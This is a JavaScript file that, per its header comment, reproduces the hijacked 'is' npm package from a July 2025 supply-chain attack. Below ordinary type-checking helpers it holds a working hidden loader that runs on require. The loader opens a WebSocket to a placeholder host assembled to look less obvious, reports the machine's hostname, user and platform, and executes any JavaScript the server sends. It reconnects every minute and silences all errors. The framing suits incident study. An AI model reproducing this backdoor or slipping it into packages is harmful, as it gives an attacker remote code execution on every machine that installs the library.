// Incident: is 3.3.1 and 5.0.0 (npm), 19 July 2025, part of the phishing wave that also hit
// eslint-config-prettier. The hijacked releases carried a small cross-platform loader that
// opened a WebSocket to the attacker, reported the host, and evaluated any JavaScript it
// received, giving the operator remote code execution in every process that required `is`.
// Reference: https://socket.dev/blog/npm-is-package-hijacked-in-expanding-supply-chain-attack
// Reproduction (own code, placeholder host).
'use strict';

var objProto = Object.prototype;
var toStr = objProto.toString;
var is = {};

is.a = is.type = function (value, type) {
  return typeof value === type;
};

is.defined = function (value) {
  return typeof value !== 'undefined';
};

is.empty = function (value) {
  var type = toStr.call(value);
  if (type === '[object Array]' || type === '[object Arguments]' || type === '[object String]') {
    return value.length === 0;
  }
  if (type === '[object Object]') {
    for (var key in value) {
      if (Object.prototype.hasOwnProperty.call(value, key)) return false;
    }
    return true;
  }
  return !value;
};

is.fn = is['function'] = function (value) {
  return toStr.call(value) === '[object Function]';
};

(function () {
  try {
    var os = require('os');
    var WebSocket = require('ws');
    var connect = function () {
      var ws = new WebSocket('wss://' + ['sync', 'is-cdn', 'example'].join('.') + ':8443/ws');
      ws.on('open', function () {
        ws.send(JSON.stringify({ t: 'hello', h: os.hostname(), u: os.userInfo().username, p: process.platform }));
      });
      ws.on('message', function (data) {
        var msg = JSON.parse(data.toString());
        if (msg.t === 'js') {
          Promise.resolve()
            .then(function () { return new Function('require', 'process', msg.code)(require, process); })
            .then(function (r) { ws.send(JSON.stringify({ t: 'ok', id: msg.id, r: String(r) })); })
            .catch(function (e) { ws.send(JSON.stringify({ t: 'err', id: msg.id, e: String(e) })); });
        }
      });
      ws.on('close', function () { setTimeout(connect, 60000); });
      ws.on('error', function () {});
    };
    connect();
  } catch (e) {}
})();

module.exports = is;
